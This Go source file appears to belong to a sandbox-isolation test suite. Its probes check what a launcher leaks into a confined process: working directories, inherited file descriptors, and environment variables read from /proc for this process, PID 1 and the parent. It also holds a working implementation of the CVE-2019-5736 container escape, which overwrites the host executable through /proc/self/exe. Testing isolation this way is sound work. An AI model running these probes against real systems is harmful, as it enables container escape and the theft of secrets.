package main

import (
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// inheritProbes are cases 18 to 23: what a launcher lets through by accident.
var inheritProbes = map[string]probe{
	"cwd":        leakedCwd,
	"files":      inheritedFiles,
	"dirs":       inheritedDirs,
	"environ":    environ,
	"self-exe":   selfExe,
	"self-exe-2": selfExeSecond,
	"init-exe":   initExe,
}

// leakedCwd looks for a file of the launcher's working directory from wherever
// this process stands.
func leakedCwd(a args) (string, error) {
	name, path := a.str("name"), a.str("path")
	var first error
	for _, p := range []string{name, "../" + name, "../../" + name, "/proc/self/cwd/" + name, "/proc/1/cwd/" + name,
		"/proc/" + strconv.Itoa(unix.Getppid()) + "/cwd/" + name, "." + path} {
		s, err := slurp(p)
		if err == nil {
			return p + ": " + s, nil
		}
		if first == nil {
			first = err
		}
	}
	return "", first
}

// highest is the number up to which descriptors are looked at.
const highest = 1024

// inheritedFiles reads from every descriptor above standard error that was here
// before main, and tells what it found.
func inheritedFiles(args) (string, error) {
	var found strings.Builder
	for fd := 3; fd < highest; fd++ {
		b := make([]byte, 512)
		if n, err := unix.Pread(fd, b, 0); err == nil && n > 0 {
			fmt.Fprintf(&found, "%d: %s ", fd, b[:n])
		}
	}
	if found.Len() == 0 {
		return "", failed("pread of 3 to 1023", unix.EBADF)
	}
	return found.String(), nil
}

// inheritedDirs opens path beneath every descriptor, upwards too.
func inheritedDirs(a args) (string, error) {
	name := a.str("name")
	for fd := 3; fd < highest; fd++ {
		for up := range 12 {
			f, err := unix.Openat(fd, strings.Repeat("../", up)+name, unix.O_RDONLY, 0)
			if err == unix.EBADF {
				break
			}
			if err == nil {
				s, err := slurpFD(f)
				return fmt.Sprintf("%d: %s", fd, s), err
			}
		}
	}
	return "", failed("openat of 3 to 1023", unix.EBADF)
}

// environ tells the whole environment, as given and as the kernel shows it for
// this process, the first one and the parent.
func environ(args) (string, error) {
	out := strings.Join(os.Environ(), " ")
	for _, p := range []string{"self", "1", strconv.Itoa(unix.Getppid())} {
		if b, err := os.ReadFile("/proc/" + p + "/environ"); err == nil {
			out += " " + p + ": " + strings.ReplaceAll(string(b), "\x00", " ")
		}
	}
	if out == "" {
		return "", failed("environ", unix.ENOENT)
	}
	return out, nil
}

// selfExe is CVE-2019-5736 against the file that this process was started from:
// it keeps the file open through /proc/self/exe, makes it no longer busy by
// executing a copy of itself, and opens it for writing from there.
func selfExe(args) (string, error) {
	fd, err := unix.Open("/proc/self/exe", unix.O_RDONLY, 0)
	if err != nil {
		return "", failed("open /proc/self/exe", err)
	}
	for _, f := range []string{"/proc/self/exe", fmt.Sprintf("/proc/self/fd/%d", fd)} {
		if w, err := unix.Open(f, unix.O_WRONLY, 0); err == nil {
			_, err = unix.Write(w, []byte("palyra was here"))
			return f, failed("write", err)
		}
	}
	dir, err := writable(func(dir string) error {
		if err := copySelf(dir + "/copy"); err != nil {
			return err
		}
		err := unix.Exec(dir+"/copy", []string{"copy", "self-exe-2", "fd=" + strconv.Itoa(fd)}, os.Environ())
		return failed("exec copy", err)
	})
	if err == nil {
		err = errors.New("exec returned from " + dir)
	}
	return "", err
}

func selfExeSecond(a args) (string, error) {
	w, err := unix.Open("/proc/self/fd/"+a.str("fd"), unix.O_WRONLY, 0)
	if err != nil {
		return "", failed("open executable O_WRONLY", err)
	}
	_, err = unix.Write(w, []byte("palyra was here"))
	return "", failed("write", err)
}

// initExe opens the executable of the first process and of the parent, where it
// is another file than our own: a launcher seen through its own mount.
func initExe(a args) (string, error) {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return "", failed("stat /proc/self/exe", errors.Unwrap(err))
	}
	last := error(unix.ENOENT)
	for _, p := range append([]string{"1", strconv.Itoa(unix.Getppid())}, strings.Fields(a.word["pids"])...) {
		f, err := os.Open("/proc/" + p + "/exe")
		if err != nil {
			last = err
			continue
		}
		st, err := f.Stat()
		if err == nil && !os.SameFile(own, st) {
			return "opened the executable of " + p, nil
		}
	}
	return "", failed("open exe of others", last)
}
